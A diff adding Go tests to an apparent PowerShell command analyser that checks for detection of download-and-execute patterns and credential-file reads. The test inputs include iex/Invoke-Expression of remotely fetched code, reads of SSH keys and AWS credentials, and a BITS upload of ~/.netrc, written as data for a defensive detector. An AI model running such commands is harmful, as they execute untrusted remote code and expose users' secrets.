@@ -141,3 +141,55 @@ func FuzzPowerShell(f *testing.F) {
 		}
 	})
 }
+
+func TestPowerShellVariables(t *testing.T) {
+	for _, tc := range []struct {
+		src    string
+		signal Signal
+		read   string
+	}{
+		{`$r = (New-Object Net.WebClient).DownloadString('https://x.example/p'); iex $r`, SignalDownloadExec, ""},
+		{`$r = iwr https://x.example/p -UseBasicParsing; Invoke-Expression $r.Content`, SignalDownloadExec, ""},
+		{`$p = "$HOME\.ssh\id_rsa"; Get-Content $p`, "", testHome + "/.ssh/id_rsa"},
+		{`$k = Join-Path $env:USERPROFILE '.aws\credentials'; gc $k`, "", testHome + "/.aws/credentials"},
+	} {
+		r := Parse("pwsh -c "+shQuoteWord(tc.src), testCwd, testHome, testUser)
+		if tc.signal != "" && !containsSignal(r.Signals, tc.signal) {
+			t.Errorf("%s: no %s in %+v (translation %q)", tc.src, tc.signal, r.Signals, TranslatePowerShell(tc.src, testHome))
+		}
+		if tc.read != "" {
+			found := false
+			for _, p := range r.Paths {
+				if p.Path == tc.read && p.Access&AccessRead != 0 {
+					found = true
+				}
+			}
+			if !found {
+				t.Errorf("%s: no read of %s in %+v (translation %q)", tc.src, tc.read, r.Paths, TranslatePowerShell(tc.src, testHome))
+			}
+		}
+	}
+}
+
+func containsSignal(ss []Raised, s Signal) bool {
+	for _, x := range ss {
+		if x.Signal == s {
+			return true
+		}
+	}
+	return false
+}
+
+// TestPowerShellOddShapes: parameters missing, doubled or out of order
+// never panic.
+func TestPowerShellOddShapes(t *testing.T) {
+	for _, src := range []string{
+		`Join-Path -ChildPath x`, `Join-Path`, `Start-BitsTransfer -Source ~/.netrc -TransferType Upload`,
+		`New-Item -Name x`, `New-Item -Path`, `Copy-Item`, `iwr`, `iex`, `& `, `. `, `$x =`, `= =`, `Remove-Item -Path`,
+		`Set-ItemProperty -Path HKCU:`, `Register-ScheduledTask -Action`, `(New-Object Net.WebClient).DownloadFile()`,
+		`[IO.File]::ReadAllText()`, `@{`, `$(`, `"$(`, "`", `'`, `"`, `[`, `<#`, `-`, `$`, `${`, `$env:`,
+	} {
+		TranslatePowerShell(src, testHome)
+		Parse("pwsh -c "+shQuoteWord(src), testCwd, testHome, testUser)
+	}
+}
